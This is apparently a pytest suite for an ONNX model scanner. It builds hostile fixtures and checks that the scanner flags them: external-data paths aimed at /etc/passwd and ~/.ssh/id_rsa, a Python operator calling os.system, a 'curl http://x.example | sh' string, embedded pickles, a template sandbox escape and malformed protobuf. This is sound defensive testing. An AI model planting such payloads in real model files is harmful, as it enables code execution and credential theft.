"""ONNX: models written by the onnx package are clean; external data that escapes the model
folder, custom and Python operators, malformed tensors and hostile protobuf are reported."""

from __future__ import annotations

import base64
from pathlib import Path

import numpy as np
import onnx
import pytest
from onnx import TensorProto, helper, numpy_helper
from onnx.external_data_helper import set_external_data

from modelshield.core.findings import Severity
from tests.scanner.formats.conftest import EVIL_PICKLE, of, rules, scan, scan_bytes

X = helper.make_tensor_value_info("X", TensorProto.FLOAT, [1, 4])
Y = helper.make_tensor_value_info("Y", TensorProto.FLOAT, [1, 4])


def model(
    nodes: list[onnx.NodeProto],
    initializers: list[onnx.TensorProto] = (),  # type: ignore[assignment]
    **kwargs: object,
) -> onnx.ModelProto:
    graph = helper.make_graph(nodes, "g", [X], [Y], initializer=list(initializers))
    return helper.make_model(graph, producer_name="test", **kwargs)  # type: ignore[arg-type]


def save(path: Path, m: onnx.ModelProto) -> Path:
    onnx.save_model(m, str(path))
    return path


# ---- real models ---------------------------------------------------------------------------


def test_models_written_by_onnx_are_clean(tmp_path: Path) -> None:
    then = helper.make_graph([helper.make_node("Identity", ["X"], ["Y"])], "then", [], [Y])
    other = helper.make_graph([helper.make_node("Neg", ["X"], ["Y"])], "else", [], [Y])
    loop_body = helper.make_graph(
        [helper.make_node("If", ["c"], ["Y"], then_branch=then, else_branch=other)],
        "body",
        [],
        [Y],
    )
    function = helper.make_function(
        "local.fn", "Twice", ["a"], ["b"], [helper.make_node("Add", ["a", "a"], ["b"])],
        [helper.make_opsetid("", 17)],
    )  # fmt: skip
    nodes = [
        helper.make_node("MatMul", ["X", "W"], ["Z"]),
        helper.make_node("Twice", ["Z"], ["Z2"], domain="local.fn"),
        helper.make_node("FusedMatMul", ["Z2", "W"], ["Z3"], domain="com.microsoft"),
        helper.make_node(
            "LabelEncoder", ["s"], ["l"], domain="ai.onnx.ml",
            keys_strings=["a", "b"], values_int64s=[1, 2],
        ),
        helper.make_node("If", ["c"], ["Y"], then_branch=then, else_branch=loop_body),
    ]  # fmt: skip
    initializers = [
        numpy_helper.from_array(np.ones((4, 4), np.float32), "W"),
        numpy_helper.from_array(np.array(True), "c"),
        numpy_helper.from_array(np.array(["x", "yz"], dtype=object), "s"),
        helper.make_tensor("ints", TensorProto.INT64, [3], [1, 2, 3]),
        helper.make_tensor("halves", TensorProto.FLOAT16, [2], np.ones(2, np.float16)),
    ]
    m = model(
        nodes,
        initializers,
        functions=[function],
        opset_imports=[
            helper.make_opsetid("", 17),
            helper.make_opsetid("ai.onnx.ml", 3),
            helper.make_opsetid("com.microsoft", 1),
            helper.make_opsetid("local.fn", 1),
        ],
    )
    m.metadata_props.append(onnx.StringStringEntryProto(key="author", value="someone"))
    sparse = helper.make_sparse_tensor(
        helper.make_tensor("v", TensorProto.FLOAT, [2], [1.0, 2.0]),
        helper.make_tensor("i", TensorProto.INT64, [2], [0, 3]),
        [4],
    )
    m.graph.sparse_initializer.append(sparse)
    path = save(tmp_path / "m.onnx", m)
    result = scan(path)
    assert result.format == "onnx"
    assert result.findings == ()
    assert result.status == "complete"


def test_external_data_written_by_onnx_is_clean(tmp_path: Path) -> None:
    m = model(
        [helper.make_node("MatMul", ["X", "W"], ["Y"])],
        [numpy_helper.from_array(np.ones((4, 4), np.float32), "W")],
    )
    path = tmp_path / "ext.onnx"
    onnx.save_model(m, str(path), save_as_external_data=True, location="ext.data", size_threshold=0)
    onnx.load(str(path))  # the reference loader accepts it
    assert scan(path).findings == ()


# ---- external data ---------------------------------------------------------------------------


def _external(location: str) -> onnx.ModelProto:
    weight = numpy_helper.from_array(np.ones((4, 4), np.float32), "W")
    set_external_data(weight, location=location)
    weight.ClearField("raw_data")
    return model([helper.make_node("MatMul", ["X", "W"], ["Y"])], [weight])


@pytest.mark.parametrize(
    ("location", "reason"),
    [
        ("../../../../etc/passwd", "climbs out"),
        ("weights/../../secret.bin", "climbs out"),
        ("/etc/passwd", "absolute"),
        ("C:\\Windows\\win.ini", "absolute"),
        ("\\\\server\\share\\w.bin", "UNC"),
        ("file:///etc/passwd", "URL"),
        ("~/.ssh/id_rsa", "home folder"),
    ],
)
def test_external_data_escaping_the_folder_is_high(
    tmp_path: Path, location: str, reason: str
) -> None:
    folder = tmp_path / "model"
    folder.mkdir()
    path = save(folder / "m.onnx", _external(location))
    with pytest.raises(onnx.checker.ValidationError):
        onnx.load(str(path))  # onnx itself refuses since CVE-2022-25882 / CVE-2024-27318
    [finding] = of(scan(path), "ONNX-EXTERNAL-DATA-PATH")
    assert finding.severity is Severity.HIGH
    assert reason in finding.evidence["reason"]
    assert finding.evidence["location"] == location


def test_external_data_through_a_symbolic_link_out_of_the_folder_is_high(tmp_path: Path) -> None:
    folder = tmp_path / "model"
    folder.mkdir()
    secret = tmp_path / "secret.bin"
    secret.write_bytes(b"\0" * 64)
    (folder / "weights.bin").symlink_to(secret)
    path = save(folder / "m.onnx", _external("weights.bin"))
    [finding] = of(scan(path), "ONNX-EXTERNAL-DATA-PATH")
    assert "symbolic link" in finding.evidence["reason"]
    # A relative location that stays inside (even through '..') is fine.
    assert scan(save(folder / "ok.onnx", _external("sub/../w.bin"))).findings == ()


# ---- operators -----------------------------------------------------------------------------


def test_custom_domain_is_medium_once_per_operator(tmp_path: Path) -> None:
    nodes = [
        helper.make_node("Exec", ["X"], ["Z"], domain="com.evil", name="n1"),
        helper.make_node("Exec", ["Z"], ["Y"], domain="com.evil", name="n2"),
    ]
    result = scan(save(tmp_path / "c.onnx", model(nodes)))
    [finding] = of(result, "ONNX-CUSTOM-OPERATOR")
    assert finding.severity is Severity.MEDIUM
    assert finding.evidence == {"domain": "com.evil", "op_type": "Exec", "node": "n1"}


def test_custom_operator_inside_a_subgraph_is_found(tmp_path: Path) -> None:
    inner = helper.make_graph(
        [helper.make_node("Exec", ["X"], ["Y"], domain="ai.onnx.contrib")], "in", [], [Y]
    )
    node = helper.make_node("If", ["c"], ["Y"], then_branch=inner, else_branch=inner)
    result = scan(save(tmp_path / "s.onnx", model([node])))
    assert of(result, "ONNX-CUSTOM-OPERATOR")


def test_python_operator_is_high_with_its_function(tmp_path: Path) -> None:
    node = helper.make_node("PythonOp", ["X"], ["Y"], domain="com.microsoft", func_name="os.system")
    [finding] = of(scan(save(tmp_path / "p.onnx", model([node]))), "ONNX-PYTHON-OPERATOR")
    assert finding.severity is Severity.HIGH
    assert "os.system" in finding.evidence["function"]


# ---- tensors -------------------------------------------------------------------------------


def _tensor_model(tensor: onnx.TensorProto) -> onnx.ModelProto:
    return model([helper.make_node("Identity", ["X"], ["Y"])], [tensor])


def _raw(dims: list[int], raw: bytes, data_type: int = TensorProto.FLOAT) -> onnx.TensorProto:
    tensor = onnx.TensorProto(name="t", data_type=data_type, dims=dims)
    tensor.raw_data = raw
    return tensor


@pytest.mark.parametrize(
    ("tensor", "problem"),
    [
        (_raw([2], b"\0" * 8, data_type=0), "undefined"),
        (_raw([-4], b""), "negative"),
        (_raw([2**40, 2**40], b"\0" * 4), "2**63"),
        (_raw([1024], b"\0" * 4), "need 4096"),
        (onnx.TensorProto(name="t", data_type=TensorProto.FLOAT, dims=[2**40]), "holds no data"),
        (
            onnx.TensorProto(name="t", data_type=TensorProto.INT64, dims=[5], int64_data=[1, 2]),
            "needs 5",
        ),
    ],
    ids=["undefined-type", "negative-dim", "overflow", "raw-size", "no-data", "typed-count"],
)
def test_malformed_tensors_are_reported(
    tmp_path: Path, tensor: onnx.TensorProto, problem: str
) -> None:
    result = scan(save(tmp_path / "t.onnx", _tensor_model(tensor)))
    found = of(result, "ONNX-TENSOR-INVALID")
    assert any(problem in f.evidence["problem"] for f in found), found


def test_external_data_without_a_location_is_invalid(tmp_path: Path) -> None:
    tensor = onnx.TensorProto(name="t", data_type=TensorProto.FLOAT, dims=[4])
    tensor.data_location = TensorProto.EXTERNAL
    tensor.external_data.append(onnx.StringStringEntryProto(key="offset", value="-5"))
    found = of(scan(save(tmp_path / "e.onnx", _tensor_model(tensor))), "ONNX-TENSOR-INVALID")
    problems = " ".join(f.evidence["problem"] for f in found)
    assert "no location" in problems and "not a non-negative integer" in problems


# ---- metadata ------------------------------------------------------------------------------


def test_metadata_strings_and_hidden_pickles(tmp_path: Path) -> None:
    m = model([helper.make_node("Identity", ["X"], ["Y"], doc_string="curl http://x.example | sh")])
    m.metadata_props.append(
        onnx.StringStringEntryProto(key="state", value=base64.b64encode(EVIL_PICKLE).decode())
    )
    m.metadata_props.append(
        onnx.StringStringEntryProto(key="tmpl", value="{{ x.__class__.__mro__ }}")
    )
    strings = onnx.TensorProto(name="blob", data_type=TensorProto.STRING, dims=[1])
    strings.string_data.append(EVIL_PICKLE)
    m.graph.initializer.append(strings)
    result = scan(save(tmp_path / "meta.onnx", m))
    assert {"METADATA-CODE", "METADATA-EMBEDDED-PICKLE", "PICKLE-CALL-DANGEROUS"} <= rules(result)
    assert len(of(result, "METADATA-EMBEDDED-PICKLE")) == 2
    assert {f.severity for f in of(result, "TEMPLATE-SANDBOX-ESCAPE")} == {Severity.MEDIUM}


# ---- hostile protobuf ----------------------------------------------------------------------


def _varint(n: int) -> bytes:
    out = bytearray()
    while True:
        byte = n & 0x7F
        n >>= 7
        out.append(byte | (0x80 if n else 0))
        if not n:
            return bytes(out)


def _ld(number: int, payload: bytes) -> bytes:
    return _varint(number << 3 | 2) + _varint(len(payload)) + payload


HEADER = b"\x08\x08" + _ld(2, b"hostile")  # ir_version 8, producer_name


@pytest.mark.parametrize(
    ("body", "problem"),
    [
        (b"\x3a" + b"\xff" * 11, "longer than 10 bytes"),
        (b"\x3a" + _varint(2**62) + b"\x0a", "claims 4611686018427387904 bytes"),
        (b"\x3f\x00", "invalid wire type 7"),
        (_ld(7, b"\x0a" + _varint(100) + b"\x00"), "claims 100 bytes"),
    ],
    ids=["absurd-varint", "length-2**62", "wire-type-7", "nested-length"],
)
def test_malformed_protobuf_is_an_incomplete_finding(
    tmp_path: Path, body: bytes, problem: str
) -> None:
    result = scan_bytes(tmp_path, HEADER + body)
    assert result.format == "onnx"
    [finding] = of(result, "ONNX-MALFORMED")
    assert problem in finding.evidence["problem"]
    assert result.status == "incomplete"


def nested_subgraphs(levels: int, op_domain: str = "") -> bytes:
    """A model whose graph holds an If node whose branch holds an If node... ``levels`` deep,
    built in linear time (each level is only headers around the next one)."""
    core = _ld(1, _ld(4, b"Exec") + _ld(7, op_domain.encode())) if op_domain else b""
    # Per level: graph.node (1) -> node.attribute (5) -> attribute.g (6) -> graph.
    sizes = [len(core)]
    for _ in range(levels):
        attribute = 1 + len(_varint(sizes[-1])) + sizes[-1]
        node = 1 + len(_varint(attribute)) + attribute
        graph = 1 + len(_varint(node)) + node
        sizes.append(graph)
    out = bytearray(HEADER + b"\x3a" + _varint(sizes[-1]))
    for size in reversed(sizes[:-1]):
        attribute = 1 + len(_varint(size)) + size
        node = 1 + len(_varint(attribute)) + attribute
        out += b"\x0a" + _varint(node) + b"\x2a" + _varint(attribute) + b"\x32" + _varint(size)
    out += core
    return bytes(out)


def test_nested_subgraphs_are_followed_to_the_limit(tmp_path: Path) -> None:
    shallow = nested_subgraphs(10, "com.evil")
    onnx.load_model_from_string(shallow)  # well-formed protobuf
    assert of(scan_bytes(tmp_path, shallow), "ONNX-CUSTOM-OPERATOR")
    deep = scan_bytes(tmp_path, nested_subgraphs(50_000, "com.evil"))
    assert rules(deep) == {"SCAN-LIMIT"}
    assert deep.status == "incomplete"


def test_detection_does_not_depend_on_field_order(tmp_path: Path) -> None:
    node = helper.make_node("Exec", ["X"], ["Y"], domain="com.evil")
    serialized = model([node]).SerializeToString()
    fields_in_order = onnx.ModelProto.FromString(serialized)
    # The graph first, then model_version and ir_version: runtimes parse any order.
    reordered = (
        _ld(7, fields_in_order.graph.SerializeToString())
        + b"\x28\x05"
        + b"\x08"
        + _varint(fields_in_order.ir_version)
    )
    assert onnx.ModelProto.FromString(reordered).graph.node[0].op_type == "Exec"
    result = scan_bytes(tmp_path, reordered)
    assert result.format == "onnx"
    assert of(result, "ONNX-CUSTOM-OPERATOR")
